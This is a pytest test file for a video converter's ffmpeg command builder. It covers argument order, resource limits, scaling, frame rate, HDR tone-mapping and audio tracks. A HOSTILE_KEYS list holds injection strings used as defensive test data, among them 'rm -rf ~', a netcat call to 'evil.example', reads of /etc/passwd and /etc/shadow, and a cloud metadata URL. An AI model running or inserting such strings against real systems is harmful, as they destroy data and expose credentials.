"""build_command() is a pure function of its arguments; MediaInfo's derived properties."""

from __future__ import annotations

import dataclasses
import os
import subprocess
from fractions import Fraction
from pathlib import Path
from typing import Any

import pytest

from videoconverter.renditions import Limits, Rendition, default_rendition
from videoconverter.transcode.command import build_command
from videoconverter.transcode.geometry import OutputSize, output_size
from videoconverter.transcode.probe import MediaInfo

FFMPEG = "/opt/ffmpeg-test/bin/ffmpeg"
SOURCE = Path("/tmp/vc-job-3f2a/source")
DESTINATION = Path("/tmp/vc-job-3f2a/output.mp4")
R720 = default_rendition(720)
R1080 = default_rendition(1080)
SHELL_CONSTRUCTS = ("$(", "${", "`", ";", "|", "&", ">", "<", "\n", "\r", "\x00")


def media_info(**overrides: Any) -> MediaInfo:
    values: dict[str, Any] = {
        "format_name": "mov,mp4,m4a,3gp,3g2,mj2",
        "duration_seconds": 12.5,
        "width": 1920,
        "height": 1080,
        "rotation_degrees": 0,
        "sample_aspect_ratio": Fraction(1),
        "frame_rate": 30.0,
        "video_codec": "h264",
        "has_audio": True,
        "audio_sample_rate": 48000,
        "stream_count": 2,
    }
    values.update(overrides)
    return MediaInfo(**values)


def command(
    info: MediaInfo | None = None,
    rendition: Rendition = R720,
    limits: Limits | None = None,
    threads: int = 0,
    size: OutputSize | None = None,
    source: Path = SOURCE,
    destination: Path = DESTINATION,
) -> list[str]:
    info = info or media_info()
    size = size or output_size(*info.display_size, rendition)
    return build_command(FFMPEG, source, destination, info, size, rendition, limits or Limits(), threads=threads)


def values_of(args: list[str], flag: str) -> list[str]:
    """Every value that follows ``flag`` in ``args``."""
    return [args[i + 1] for i, arg in enumerate(args[:-1]) if arg == flag]


def value_of(args: list[str], flag: str) -> str:
    values = values_of(args, flag)
    assert len(values) == 1, f"{flag} appears {len(values)} times in {args}"
    return values[0]


def input_index(args: list[str]) -> int:
    assert args.count("-i") == 1, "exactly one input"
    return args.index("-i")


# --- the argument list ----------------------------------------------------------------------------------------


def test_starts_with_the_ffmpeg_path_and_every_element_is_a_string() -> None:
    args = command()
    assert args[0] == FFMPEG
    assert all(isinstance(arg, str) for arg in args)
    assert FFMPEG not in args[1:]


def test_never_reads_stdin_and_overwrites_its_own_temp_output() -> None:
    args = command()
    assert "-nostdin" in args
    assert args.index("-nostdin") < input_index(args)
    assert "-y" in args


def test_only_the_file_protocol_is_allowed_for_the_input() -> None:
    args = command()
    i = input_index(args)
    assert value_of(args, "-protocol_whitelist") == "file"
    assert args.index("-protocol_whitelist") < i


@pytest.mark.parametrize(
    ("format_name", "demuxer"),
    [("mov,mp4,m4a,3gp,3g2,mj2", "mov"), ("matroska,webm", "matroska"), ("webm", "webm")],
)
def test_the_probed_demuxer_is_forced_on_the_input(format_name: str, demuxer: str) -> None:
    args = command(media_info(format_name=format_name))
    i = input_index(args)
    input_formats = values_of(args[:i], "-f")
    assert input_formats == [demuxer]
    # The output format is forced separately, after the input.
    assert values_of(args[i:], "-f") == ["mp4"]


def test_the_decoder_refuses_pictures_over_the_pixel_limit() -> None:
    limits = Limits(max_pixels=1234567)
    args = command(limits=limits)
    assert value_of(args, "-max_pixels") == str(limits.max_pixels)
    assert args.index("-max_pixels") < input_index(args)


def test_the_output_size_is_capped_by_the_limit() -> None:
    limits = Limits(max_output_bytes=987654321)
    args = command(limits=limits)
    assert value_of(args, "-fs") == str(limits.max_output_bytes)


def test_input_and_output_are_file_urls_of_the_given_paths() -> None:
    args = command()
    i = input_index(args)
    assert args[i + 1] == f"file:{SOURCE}"
    assert args[-1] == f"file:{DESTINATION}"
    assert args[-3:-1] == ["-f", "mp4"]


def test_paths_with_spaces_and_dashes_stay_single_file_arguments(tmp_path: Path) -> None:
    source = tmp_path / "a dir" / "-i source name"
    destination = tmp_path / "out dir" / "-y out.mp4"
    args = command(source=source, destination=destination)
    assert args[input_index(args) + 1] == f"file:{source}"
    assert args[-1] == f"file:{destination}"
    assert str(source) not in args and str(destination) not in args


def test_maps_the_first_video_and_audio_stream_when_there_is_audio() -> None:
    args = command(media_info(has_audio=True))
    assert values_of(args, "-map") == ["0:v:0", "0:a:0"]
    assert value_of(args, "-c:a") == "aac"
    assert value_of(args, "-b:a") == f"{R720.audio_bitrate_kbps}k"
    assert value_of(args, "-ac") == "2"


def test_no_audio_arguments_without_audio() -> None:
    args = command(media_info(has_audio=False, audio_sample_rate=None, stream_count=1))
    assert values_of(args, "-map") == ["0:v:0"]
    for flag in ("-c:a", "-b:a", "-ac", "-ar"):
        assert flag not in args
    assert not any(arg.startswith("0:a") for arg in args)


@pytest.mark.parametrize(
    ("source_rate", "expected"),
    [(48000, "48000"), (44100, "44100"), (22050, "48000"), (96000, "48000"), (None, "48000")],
)
def test_audio_sample_rate_is_kept_when_aac_friendly(source_rate: int | None, expected: str) -> None:
    args = command(media_info(audio_sample_rate=source_rate))
    assert value_of(args, "-ar") == expected


def test_faststart_for_progressive_playback() -> None:
    assert value_of(command(), "-movflags") == "+faststart"


@pytest.mark.parametrize("rendition", [R720, R1080, dataclasses.replace(R720, max_video_bitrate_kbps=777)])
def test_maxrate_is_the_renditions_cap(rendition: Rendition) -> None:
    args = command(rendition=rendition)
    assert value_of(args, "-maxrate") == f"{rendition.max_video_bitrate_kbps}k"
    assert value_of(args, "-bufsize") == f"{rendition.max_video_bitrate_kbps}k"  # a one-second VBV buffer
    assert value_of(args, "-x264-params") == "vbv-init=0.5"


def test_h264_high_profile_yuv420p_with_the_renditions_quality() -> None:
    rendition = dataclasses.replace(R720, crf=19, x264_preset="veryfast")
    args = command(rendition=rendition)
    assert value_of(args, "-c:v") == "libx264"
    assert value_of(args, "-profile:v") == "high"
    assert value_of(args, "-pix_fmt") == "yuv420p"
    assert value_of(args, "-crf") == "19"
    assert value_of(args, "-preset") == "veryfast"


@pytest.mark.parametrize(
    "size", [OutputSize(1280, 720, ""), OutputSize(720, 1280, ""), OutputSize(334, 188, "kept its size")]
)
def test_scale_filter_uses_the_given_size(size: OutputSize) -> None:
    args = command(size=size)
    vf = value_of(args, "-vf")
    filters = vf.split(",")
    assert filters[0].startswith("fps=")  # constant frame rate before anything else
    assert filters[1].startswith(f"scale={size.width}:{size.height}")
    assert "setsar=1" in filters
    assert "format=yuv420p" in filters
    assert vf.count("scale=") == 1


def test_scale_filter_follows_the_display_size_of_a_rotated_source() -> None:
    info = media_info(rotation_degrees=90)
    args = command(info)
    assert value_of(args, "-vf").split(",")[1].startswith("scale=720:1280")


@pytest.mark.parametrize(
    ("frame_rate", "max_frame_rate", "interval", "expected_fps", "expected_gop"),
    [
        (30.0, 60, 2.0, "30", 60),
        (25.0, 60, 2.0, "25", 50),
        (29.97, 60, 2.0, "30000/1001", 60),
        (23.976, 60, 2.0, "24000/1001", 48),
        (60.0, 60, 2.0, "60", 120),
        (120.0, 60, 2.0, "60", 120),  # above the cap: halved
        (100.0, 60, 2.0, "50", 100),  # halved, not clipped to 60: every output frame is a source frame
        (240.0, 60, 2.0, "60", 120),  # halved twice
        (60.0, 30, 2.0, "30", 60),
        (29.2, 60, 2.0, "30000/1001", 60),  # a variable-rate phone clip averaging 29.2: the nearest standard
        (41.0, 60, 2.0, "41", 82),  # no standard rate within 5 %: kept
        (None, 60, 2.0, "30", 60),  # unknown: 30
        (24.0, 60, 1.0, "24", 24),
    ],
)
def test_frame_rate_and_keyframe_interval(
    frame_rate: float | None, max_frame_rate: int, interval: float, expected_fps: str, expected_gop: int
) -> None:
    rendition = dataclasses.replace(R720, max_frame_rate=max_frame_rate, keyframe_interval_seconds=interval)
    args = command(media_info(frame_rate=frame_rate), rendition=rendition)
    assert abs(expected_gop - float(Fraction(expected_fps)) * interval) <= 0.5  # the table itself is consistent
    assert value_of(args, "-vf").split(",")[0] == f"fps={expected_fps}"
    assert value_of(args, "-g") == str(expected_gop)
    assert value_of(args, "-keyint_min") == str(expected_gop)
    assert value_of(args, "-sc_threshold") == "0"
    assert value_of(args, "-force_key_frames") == f"expr:gte(t,n_forced*{interval:g})"


@pytest.mark.parametrize("threads", [0, -1])
def test_no_threads_option_by_default(threads: int) -> None:
    assert "-threads" not in command(threads=threads)


@pytest.mark.parametrize("threads", [1, 4])
def test_threads_option_when_positive(threads: int) -> None:
    args = command(threads=threads)
    assert value_of(args, "-threads") == str(threads)
    assert args.index("-threads") > input_index(args)  # an output (encoder) option


def test_metadata_and_chapters_are_dropped_and_progress_goes_to_stdout() -> None:
    args = command()
    assert value_of(args, "-map_metadata") == "-1"
    assert value_of(args, "-map_chapters") == "-1"
    assert value_of(args, "-progress") == "pipe:1"


def test_options_come_in_pairs_where_expected() -> None:
    """A cheap structural check: every flag that takes a value is followed by a non-flag (or -1)."""
    args = command()
    for flag in ("-i", "-f", "-map", "-vf", "-c:v", "-maxrate", "-g", "-movflags", "-fs", "-progress"):
        for value in values_of(args, flag):
            assert value == "-1" or not value.startswith("-"), (flag, value)


HOSTILE_KEYS = [
    "uploads/$(touch pwned).mp4",
    "uploads/`id`.mp4",
    "a; rm -rf ~ ;.mp4",
    "x | nc evil.example 4444 &.mp4",
    "concat:/etc/passwd|/etc/shadow.mp4",
    "http://169.254.169.254/latest/meta-data.mp4",
    "-i /etc/passwd.mp4",
    "line\nbreak.mp4",
]


@pytest.mark.parametrize("key", HOSTILE_KEYS)
def test_the_upload_key_never_reaches_the_command(key: str) -> None:
    """The worker downloads to a temp name; nothing derived from the key is in the argument list."""
    args = command()
    for arg in args:
        assert key not in arg
        assert not any(construct in arg for construct in SHELL_CONSTRUCTS), arg
    # build_command has nowhere to put a key: its only inputs are paths, the probe result and settings.
    # A key smuggled into the probe result's free-text fields still does not reach the arguments.
    args = command(media_info(video_codec=key))
    assert all(key not in arg for arg in args)


def test_build_command_is_pure(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    def forbidden(*_args: object, **_kwargs: object) -> None:
        raise AssertionError("build_command must not run anything")

    monkeypatch.setattr(subprocess, "Popen", forbidden)
    monkeypatch.setattr(subprocess, "run", forbidden)
    monkeypatch.setattr(os, "system", forbidden)
    source = tmp_path / "does-not-exist" / "source"
    destination = tmp_path / "does-not-exist" / "output.mp4"
    info = media_info()
    size = OutputSize(1280, 720, "")
    limits = Limits()
    first = build_command(FFMPEG, source, destination, info, size, R720, limits, threads=2)
    first_copy = list(first)
    first.append("--mutated--")
    second = build_command(FFMPEG, source, destination, info, size, R720, limits, threads=2)
    assert second == first_copy
    assert second is not first
    assert not source.parent.exists()
    assert list(tmp_path.iterdir()) == []


def test_different_inputs_give_different_commands() -> None:
    """Guards against a cached or constant result."""
    assert command(rendition=R720) != command(rendition=R1080)
    assert command(media_info(has_audio=True)) != command(media_info(has_audio=False))


# --- MediaInfo ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("width", "height", "rotation", "sar", "expected"),
    [
        pytest.param(1920, 1080, 0, Fraction(1), (1920, 1080), id="plain"),
        pytest.param(1920, 1080, 90, Fraction(1), (1080, 1920), id="rotated-90"),
        pytest.param(1920, 1080, 270, Fraction(1), (1080, 1920), id="rotated-270"),
        pytest.param(1920, 1080, 180, Fraction(1), (1920, 1080), id="upside-down"),
        pytest.param(1080, 1920, 90, Fraction(1), (1920, 1080), id="portrait-coded-rotated"),
        pytest.param(1440, 1080, 0, Fraction(4, 3), (1920, 1080), id="anamorphic-hdv"),
        pytest.param(1440, 1080, 90, Fraction(4, 3), (1080, 1920), id="anamorphic-rotated"),
        pytest.param(720, 576, 0, Fraction(64, 45), (1024, 576), id="pal-wide"),
        pytest.param(720, 480, 0, Fraction(8, 9), (640, 480), id="ntsc-4-3"),
        pytest.param(1920, 1080, 0, Fraction(0), (1920, 1080), id="unknown-sar"),
    ],
)
def test_display_size(width: int, height: int, rotation: int, sar: Fraction, expected: tuple[int, int]) -> None:
    info = media_info(width=width, height=height, rotation_degrees=rotation, sample_aspect_ratio=sar)
    assert info.display_size == expected


def test_display_size_of_an_anamorphic_source_drives_the_output_size() -> None:
    info = media_info(width=1440, height=1080, sample_aspect_ratio=Fraction(4, 3))
    size = output_size(*info.display_size, R720)
    assert (size.width, size.height) == (1280, 720)
    assert value_of(command(info), "-vf").split(",")[1].startswith("scale=1280:720")


@pytest.mark.parametrize(
    ("format_name", "demuxer"),
    [("mov,mp4,m4a,3gp,3g2,mj2", "mov"), ("matroska,webm", "matroska"), ("mp4", "mp4")],
)
def test_demuxer_is_the_first_format_name(format_name: str, demuxer: str) -> None:
    assert media_info(format_name=format_name).demuxer == demuxer


@pytest.mark.parametrize("transfer", ["smpte2084", "arib-std-b67"])
def test_hdr_is_tone_mapped_to_bt709(transfer: str) -> None:
    args = command(media_info(color_transfer=transfer, color_primaries="bt2020"))
    vf = value_of(args, "-vf")
    assert "tonemap=tonemap=mobius" in vf and vf.index("scale=") < vf.index("tonemap")  # tone-map the small picture
    assert "zscale=t=bt709:m=bt709:r=tv" in vf and vf.endswith("setsar=1")
    assert (value_of(args, "-color_trc"), value_of(args, "-color_primaries")) == ("bt709", "bt709")
    assert value_of(args, "-pix_fmt") == "yuv420p"


def test_sdr_is_converted_to_and_tagged_bt709() -> None:
    args = command()
    assert "tonemap" not in value_of(args, "-vf") and "out_color_matrix=bt709" in value_of(args, "-vf")
    assert (value_of(args, "-colorspace"), value_of(args, "-color_trc")) == ("bt709", "bt709")


def test_hdr_kept_stays_10_bit_with_its_own_transfer() -> None:
    rendition = dataclasses.replace(R720, codec="hevc", hdr="keep")
    args = command(media_info(color_transfer="arib-std-b67", color_primaries="bt2020"), rendition=rendition)
    assert "tonemap" not in value_of(args, "-vf") and value_of(args, "-pix_fmt") == "yuv420p10le"
    assert (value_of(args, "-color_trc"), value_of(args, "-color_primaries")) == ("arib-std-b67", "bt2020")
    assert value_of(args, "-c:v") == "libx265"


def test_audio_gaps_of_a_variable_rate_recording_are_filled() -> None:
    assert value_of(command(), "-af") == "aresample=async=1"


def test_several_audio_tracks_are_kept_only_when_asked_each_with_its_filter_and_language() -> None:
    from videoconverter.transcode.probe import AudioTrack

    tracks = (AudioTrack(0, "eng", 2), AudioTrack(1, "fra", 6), AudioTrack(2, "deu", 2))
    info = media_info(audio_tracks=tracks)
    assert values_of(command(info), "-map") == ["0:v:0", "0:a:0"]  # the default: the first track, as before
    assert command(info) == command(media_info())  # the tracks' list alone changes nothing
    two = dataclasses.replace(R720, max_audio_tracks=2)
    size = output_size(*info.display_size, two)
    args = build_command(FFMPEG, SOURCE, DESTINATION, info, size, two, Limits(), track_filters=["volume=2", ""])
    assert values_of(args, "-map") == ["0:v:0", "0:a:0", "0:a:1"]
    assert values_of(args, "-filter:a:0") == ["volume=2,aresample=async=1"]
    assert values_of(args, "-filter:a:1") == ["aresample=async=1"]
    assert values_of(args, "-metadata:s:a:0") == ["language=eng"]
    assert values_of(args, "-metadata:s:a:1") == ["language=fra"]
    assert "-af" not in args
